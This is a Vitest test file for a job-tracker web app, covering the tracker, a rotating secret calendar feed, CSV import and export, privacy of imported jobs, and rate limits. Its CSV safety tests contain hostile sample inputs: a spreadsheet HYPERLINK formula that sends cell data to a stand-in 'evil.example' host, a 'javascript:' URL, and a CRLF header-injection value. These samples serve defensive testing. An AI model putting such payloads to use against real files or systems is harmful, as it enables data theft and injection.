import { sql } from 'kysely';
import { beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, TEST_ORIGIN, type TestApp } from '../../helpers/app.ts';
import { createCompany, createJob } from '../../helpers/jobs-factory.ts';
import { createSignedInUser } from '../../helpers/users.ts';

let t: TestApp;
beforeAll(async () => {
  t = await createTestApp();
});

const post = (cookie: string, url: string, payload: object) =>
  t.app.inject({ method: 'POST', url, headers: { cookie, origin: TEST_ORIGIN }, payload });
const get = (cookie: string, url: string) => t.app.inject({ method: 'GET', url, headers: { cookie } });
const DAY = 86_400_000;

describe('the tracker', () => {
  it('lists tracked jobs with status time, next date, closed date and the ghosted suggestion', async () => {
    const user = await createSignedInUser(t.deps);
    const company = await createCompany(t.deps.db, { name: 'Orbit' });
    const applied = await createJob(t.deps.db, { company, title: 'Analyst' });
    const closed = await createJob(t.deps.db, {
      company,
      title: 'Designer',
      active: false,
      closedAt: new Date('2026-01-10T00:00:00Z'),
    });
    const untracked = await createJob(t.deps.db, { company });
    await post(user.cookie, '/api/post/update-job-status', {
      job_id: applied.id,
      job_status: 'Cold Applied',
    });
    await post(user.cookie, '/api/post/update-job-status', { job_id: closed.id, job_status: 'Rejected' });
    await post(user.cookie, '/api/post/user-job-saved', { job_id: untracked.id, save_job: true });
    const dated = await post(user.cookie, '/api/post/update-job-next-date', {
      job_id: applied.id,
      next_date: '2026-02-03',
      next_date_label: 'Interview',
    });
    expect(dated.statusCode).toBe(200);

    let jobs = (await get(user.cookie, '/api/get/tracker')).json().tracked_jobs;
    expect(jobs.map((j: { title: string }) => j.title).sort()).toEqual(['Analyst', 'Designer']);
    const analyst = jobs.find((j: { id: number }) => j.id === applied.id);
    expect(analyst).toMatchObject({
      company: 'Orbit',
      current_status: 'Cold Applied',
      next_date: '2026-02-03',
      next_date_label: 'Interview',
      closed_at: null,
      suggest_ghosted: false,
      job_notes_count: 1,
      locations: [{ city: 'Austin', state: 'TX' }],
    });
    expect(jobs.find((j: { id: number }) => j.id === closed.id).closed_at).toBe('2026-01-10T00:00:00.000Z');

    t.clock.advance(21 * DAY);
    jobs = (await get(user.cookie, '/api/get/tracker')).json().tracked_jobs;
    const after = Object.fromEntries(
      jobs.map((j: { title: string; suggest_ghosted: boolean }) => [j.title, j.suggest_ghosted]),
    );
    // Rejected is settled: silence means nothing there.
    expect(after).toEqual({ Analyst: true, Designer: false });
  });

  it('gives each tracked job the facts its search card shows: visa, remote eligibility, listing history', async () => {
    const user = await createSignedInUser(t.deps);
    const company = await createCompany(t.deps.db, { name: 'Factual' });
    const listed = await createJob(t.deps.db, {
      company,
      title: 'Listed Long',
      listedAt: new Date(t.clock.now().getTime() - 94 * DAY),
    });
    const gone = await createJob(t.deps.db, {
      company,
      title: 'Gone',
      active: false,
      closedAt: new Date(t.clock.now().getTime() - DAY),
    });
    await sql`UPDATE jobs SET visa_sponsorship = 'sponsors', visa_sentence = 'Visa sponsorship is available.',
      remote = true, remote_label = 'Europe', remote_sentence = 'You must be based in Europe.', repost_count = 2
      WHERE id = ${listed.id}`.execute(t.deps.db);
    for (const job of [listed, gone])
      await post(user.cookie, '/api/post/update-job-status', { job_id: job.id, job_status: 'Cold Applied' });

    const jobs = (await get(user.cookie, '/api/get/tracker')).json().tracked_jobs;
    const card = jobs.find((j: { id: number }) => j.id === listed.id);
    expect(card).toMatchObject({
      visa_sponsorship: 'sponsors',
      visa_sentence: 'Visa sponsorship is available.',
      remote_eligibility: { label: 'Europe', sentence: 'You must be based in Europe.' },
      listing: { reposts: 2 },
    });
    expect(Date.parse(card.listing.listed_since)).toBe(t.clock.now().getTime() - 94 * DAY);
    // How long a job was listed says nothing once it left its board.
    expect(jobs.find((j: { id: number }) => j.id === gone.id).listing).toBeNull();
  });

  it('refuses a next date on a job that is not tracked, and an impossible date', async () => {
    const user = await createSignedInUser(t.deps);
    const job = await createJob(t.deps.db);
    const untracked = await post(user.cookie, '/api/post/update-job-next-date', {
      job_id: job.id,
      next_date: '2026-02-03',
    });
    expect(untracked.statusCode).toBe(400);
    expect(untracked.json().error.message).toMatch(/Pick a status/);
    await post(user.cookie, '/api/post/update-job-status', { job_id: job.id, job_status: 'Offer' });
    const bad = await post(user.cookie, '/api/post/update-job-next-date', {
      job_id: job.id,
      next_date: '03/02/2026',
    });
    expect(bad.statusCode).toBe(400);
  });
});

describe('the calendar feed', () => {
  it('serves next dates at a secret URL without a session, and stops serving the old URL after rotation', async () => {
    const user = await createSignedInUser(t.deps);
    const company = await createCompany(t.deps.db, { name: 'Acme, Inc.' });
    const job = await createJob(t.deps.db, { company, title: 'Data Engineer; Platform' });
    await post(user.cookie, '/api/post/update-job-status', { job_id: job.id, job_status: '1st Interview' });
    await post(user.cookie, '/api/post/update-job-next-date', {
      job_id: job.id,
      next_date: '2026-02-03',
      next_date_label: 'Interview',
    });
    const { url } = (await get(user.cookie, '/api/get/calendar-feed')).json();
    expect((await get(user.cookie, '/api/get/calendar-feed')).json().url).toBe(url);
    expect(url).toMatch(/^http:\/\/localhost:3000\/api\/calendar\/[\w-]{24}\.[\w-]{32}\.ics$/);
    const path = new URL(url).pathname;

    const feed = await t.app.inject({ method: 'GET', url: path });
    expect(feed.statusCode).toBe(200);
    expect(feed.headers['content-type']).toMatch(/^text\/calendar/);
    const body = feed.body.replace(/\r\n /g, '');
    expect(body).toContain('BEGIN:VCALENDAR');
    expect(body).toContain('DTSTART;VALUE=DATE:20260203');
    expect(body).toContain('DTEND;VALUE=DATE:20260204');
    expect(body).toContain('SUMMARY:Interview: Data Engineer\\; Platform at Acme\\, Inc.');
    expect(body).toContain('DESCRIPTION:Status: 1st Interview\\n');
    for (const line of feed.body.split('\r\n')) expect(Buffer.byteLength(line)).toBeLessThanOrEqual(75);

    const forged = path.replace(/\.[\w-]{32}\.ics$/, `.${'A'.repeat(32)}.ics`);
    expect((await t.app.inject({ method: 'GET', url: forged })).statusCode).toBe(404);

    const rotated = (await post(user.cookie, '/api/post/rotate-calendar-feed', {})).json().url;
    expect(rotated).not.toBe(url);
    expect((await t.app.inject({ method: 'GET', url: path })).statusCode).toBe(404);
    expect((await t.app.inject({ method: 'GET', url: new URL(rotated).pathname })).statusCode).toBe(200);
  });
});

describe('CSV export and import', () => {
  it('exports the full history and rebuilds it in a fresh account', async () => {
    const owner = await createSignedInUser(t.deps);
    const company = await createCompany(t.deps.db, { name: 'Northwind' });
    const job = await createJob(t.deps.db, { company, title: 'Product Manager' });
    await post(owner.cookie, '/api/post/update-job-status', { job_id: job.id, job_status: 'Cold Applied' });
    t.clock.advance(60_000);
    await post(owner.cookie, '/api/post/add-job-notes', {
      job_id: job.id,
      note: 'Recruiter said "soon",\nwait a week',
    });
    t.clock.advance(60_000);
    await post(owner.cookie, '/api/post/update-job-status', { job_id: job.id, job_status: '1st Interview' });
    await post(owner.cookie, '/api/post/update-job-next-date', {
      job_id: job.id,
      next_date: '2026-03-01',
      next_date_label: 'Interview',
    });

    const exported = await get(owner.cookie, '/api/get/tracked-jobs-export.csv');
    expect(exported.statusCode).toBe(200);
    expect(exported.headers['content-disposition']).toMatch(
      /attachment; filename="upstream-tracked-jobs-\d{4}-\d{2}-\d{2}\.csv"/,
    );
    expect(exported.body.split('\n')[0]).toBe(
      'company,title,url,location,status,status_changed_at,next_date,next_date_label,saved,flagged,entry_type,entry_at,entry_text',
    );

    const fresh = await createSignedInUser(t.deps);
    const importCsv = (csv: string) =>
      t.app.inject({
        method: 'POST',
        url: '/api/post/import-tracked-jobs',
        headers: { cookie: fresh.cookie, origin: TEST_ORIGIN, 'content-type': 'text/csv' },
        payload: csv,
      });
    const res = await importCsv(exported.body);
    expect(res.json()).toEqual({ imported_jobs: 1, imported_notes: 3, skipped: [] });
    // Importing the same file again adds nothing twice.
    expect((await importCsv(exported.body)).json()).toMatchObject({ imported_notes: 0 });

    const [tracked] = (await get(fresh.cookie, '/api/get/tracker')).json().tracked_jobs;
    expect(tracked).toMatchObject({
      id: job.id,
      current_status: '1st Interview',
      next_date: '2026-03-01',
      imported: false,
    });
    const notes = (await post(fresh.cookie, '/api/post/fetch-all-job-notes', { job_id: job.id })).json()
      .job_notes[0];
    const ownerNotes = (await post(owner.cookie, '/api/post/fetch-all-job-notes', { job_id: job.id })).json()
      .job_notes[0];
    const strip = (list: { note: string; is_status: boolean; create_ts: string }[]) =>
      list.map(({ note, is_status, create_ts }) => ({ note, is_status, create_ts }));
    expect(strip(notes)).toEqual(strip(ownerNotes));
  });

  it("maps another tracker's columns by header name and keeps unknown jobs as the person's own", async () => {
    const user = await createSignedInUser(t.deps);
    const known = await createJob(t.deps.db, { url: 'https://boards.example/known' });
    const csv = [
      'Company Name,Job Title,Link,Stage,Date Applied,Notes',
      `Whatever,Known Job,${known.url},Applied,2026-01-02,Sent via site`,
      'Globex,Staff Engineer,https://globex.example/jobs/1,Interviewing,2026-01-05,',
      'Initech,Analyst,,Hired,2026-01-06,',
      'Hooli,Engineer,javascript:alert(1),Applied,,',
      ',No company,,Applied,,',
    ].join('\n');
    const res = await t.app.inject({
      method: 'POST',
      url: '/api/post/import-tracked-jobs',
      headers: { cookie: user.cookie, origin: TEST_ORIGIN, 'content-type': 'text/csv' },
      payload: csv,
    });
    expect(res.statusCode).toBe(200);
    expect(res.json()).toEqual({
      imported_jobs: 2,
      imported_notes: 3,
      skipped: [
        { row: 4, reason: 'Unknown status "Hired".' },
        { row: 5, reason: 'The url must start with http:// or https://.' },
        { row: 6, reason: 'A title and a company or url are needed.' },
      ],
    });
    const jobs = (await get(user.cookie, '/api/get/tracker')).json().tracked_jobs;
    const byTitle = Object.fromEntries(jobs.map((j: { title: string }) => [j.title, j]));
    expect(byTitle['Staff Engineer']).toMatchObject({
      company: 'Globex',
      current_status: '1st Interview',
      imported: true,
      status_changed_at: '2026-01-05T00:00:00.000Z',
    });
    expect(byTitle[known.title]).toMatchObject({
      id: known.id,
      current_status: 'Cold Applied',
      imported: false,
    });
    // The imported job stays out of search: it is never active.
    const row = await t.deps.db
      .selectFrom('jobs')
      .select(['active', 'imported_by_user_id'])
      .where('id', '=', byTitle['Staff Engineer'].id)
      .executeTakeFirstOrThrow();
    expect(row).toEqual({ active: false, imported_by_user_id: user.id });
  });

  it('explains a file it cannot use', async () => {
    const user = await createSignedInUser(t.deps);
    const res = await t.app.inject({
      method: 'POST',
      url: '/api/post/import-tracked-jobs',
      headers: { cookie: user.cookie, origin: TEST_ORIGIN, 'content-type': 'text/csv' },
      payload: 'name,when\nfoo,bar\n',
    });
    expect(res.statusCode).toBe(400);
    expect(res.json().error.message).toBe('The file needs a title column and a company or url column.');
  });
});

describe('imported jobs and companies', () => {
  const importCsv = (cookie: string, csv: string) =>
    t.app.inject({
      method: 'POST',
      url: '/api/post/import-tracked-jobs',
      headers: { cookie, origin: TEST_ORIGIN, 'content-type': 'text/csv' },
      payload: csv,
    });

  it('stay private to the member who imported them', async () => {
    const owner = await createSignedInUser(t.deps);
    const other = await createSignedInUser(t.deps);
    const csv =
      'Company Name,Job Title,Link,Stage\nStealth Labs,Secret Role,https://stealth.example/jobs/9,Applied';
    expect((await importCsv(owner.cookie, csv)).json().imported_jobs).toBe(1);
    const secret = await t.deps.db
      .selectFrom('jobs')
      .select(['id', 'company_id'])
      .where('imported_by_user_id', '=', owner.id)
      .executeTakeFirstOrThrow();

    // Marking another member's imported job, or its company, finds nothing, and nothing of it shows.
    for (const [url, payload] of [
      ['/api/post/update-job-status', { job_id: secret.id, job_status: 'Cold Applied' }],
      ['/api/post/user-job-saved', { job_id: secret.id, save_job: true }],
      ['/api/post/add-job-notes', { job_id: secret.id, note: 'peek' }],
      [
        '/api/post/update-job-next-date',
        { job_id: secret.id, next_date: '2026-05-01', next_date_label: 'Other' },
      ],
      ['/api/post/user-company-blocked', { company_id: secret.company_id, block_company: true }],
      ['/api/post/user-company-saved', { company_id: secret.company_id, save_company: true }],
    ] as const) {
      const res = await post(other.cookie, url, payload);
      expect(res.statusCode, url).toBe(404);
    }
    const seen = [
      (await get(other.cookie, '/api/get/tracker')).body,
      (await get(other.cookie, '/api/get/blocked-companies')).body,
      (await get(other.cookie, '/api/get/tracked-jobs-export.csv')).body,
    ].join('\n');
    expect(seen).not.toMatch(/Secret Role|Stealth Labs|stealth\.example/);

    // The same company name imported by someone else is their own company, not the first member's.
    const mine = 'Company Name,Job Title,Link,Stage\nStealth Labs,My Role,https://other.example/1,Applied';
    expect((await importCsv(other.cookie, mine)).json().imported_jobs).toBe(1);
    const theirs = await t.deps.db
      .selectFrom('jobs')
      .select('company_id')
      .where('imported_by_user_id', '=', other.id)
      .executeTakeFirstOrThrow();
    expect(theirs.company_id).not.toBe(secret.company_id);

    // The owner still works with their own.
    const own = await post(owner.cookie, '/api/post/user-company-saved', {
      company_id: secret.company_id,
      save_company: true,
    });
    expect(own.statusCode).toBe(200);
  });
});

describe('CSV safety', () => {
  const importAs = (cookie: string, csv: string) =>
    t.app.inject({
      method: 'POST',
      url: '/api/post/import-tracked-jobs',
      headers: { cookie, origin: TEST_ORIGIN, 'content-type': 'text/csv' },
      payload: csv,
    });

  it('exports a formula-like note inert, and imports it back exactly', async () => {
    const owner = await createSignedInUser(t.deps);
    const job = await createJob(t.deps.db, { company: await createCompany(t.deps.db), title: 'Formula Job' });
    const formula = '=HYPERLINK("https://evil.example/steal?d="&A1,"Click")';
    await post(owner.cookie, '/api/post/update-job-status', { job_id: job.id, job_status: 'Cold Applied' });
    await post(owner.cookie, '/api/post/add-job-notes', { job_id: job.id, note: formula });
    await post(owner.cookie, '/api/post/add-job-notes', { job_id: job.id, note: '@SUM(1+1)' });
    const exported = (await get(owner.cookie, '/api/get/tracked-jobs-export.csv')).body;
    // Every cell that a spreadsheet would evaluate starts with a quote mark.
    const cells = exported.split(/[\n,]/).map((c) => c.replace(/^"/, ''));
    expect(cells.filter((c) => /^[=+@]/.test(c))).toEqual([]);
    expect(exported).toContain(`"'=HYPERLINK(`);

    const fresh = await createSignedInUser(t.deps);
    expect((await importAs(fresh.cookie, exported)).statusCode).toBe(200);
    const notes = (await post(fresh.cookie, '/api/post/fetch-all-job-notes', { job_id: job.id })).json()
      .job_notes[0] as { note: string }[];
    expect(notes.map((n) => n.note)).toEqual(expect.arrayContaining([formula, '@SUM(1+1)']));
  });

  it('counts every imported row toward the plan cap, bare rows included', async () => {
    const member = await createSignedInUser(t.deps); // free: 100 tracked and noted jobs
    const rows = (from: number, n: number) =>
      Array.from({ length: n }, (_, i) => `Bare Co ${from + i},Role ${from + i},`).join('\n');
    const first = (await importAs(member.cookie, `Company,Title,Stage\n${rows(0, 150)}`)).json();
    expect(first.imported_jobs).toBe(100);
    expect(first.skipped).toHaveLength(50);
    expect(first.skipped[0].reason).toMatch(/limit of 100 tracked and noted jobs/);
    const again = (await importAs(member.cookie, `Company,Title,Stage\n${rows(500, 10)}`)).json();
    expect(again.imported_jobs).toBe(0);
    // And the cap holds for the buttons too.
    const job = await createJob(t.deps.db, { company: await createCompany(t.deps.db) });
    const status = await post(member.cookie, '/api/post/update-job-status', {
      job_id: job.id,
      job_status: 'Cold Applied',
    });
    expect(status.statusCode).toBe(403);
  });

  it('refuses an address with control characters', async () => {
    const member = await createSignedInUser(t.deps);
    const csv =
      'Company,Title,Link,Stage\nAcme,Role,"https://acme.example/jobs/1\r\nX-Injected: yes",Applied\n';
    const res = (await importAs(member.cookie, csv)).json();
    expect(res.imported_jobs).toBe(0);
    expect(res.skipped).toEqual([{ row: 2, reason: 'The url must start with http:// or https://.' }]);
  });

  it('limits how often a member imports, and says when to try again', async () => {
    const member = await createSignedInUser(t.deps);
    const csv = 'Company,Title,Stage\nRate Co,Role,\n';
    for (let i = 0; i < 10; i++) expect((await importAs(member.cookie, csv)).statusCode).toBe(200);
    const refused = await importAs(member.cookie, csv);
    expect(refused.statusCode).toBe(429);
    expect(refused.json().error.message).toMatch(
      /^You can import 10 files an hour\. Please try again in \d+ minutes?\.$/,
    );
  });
});
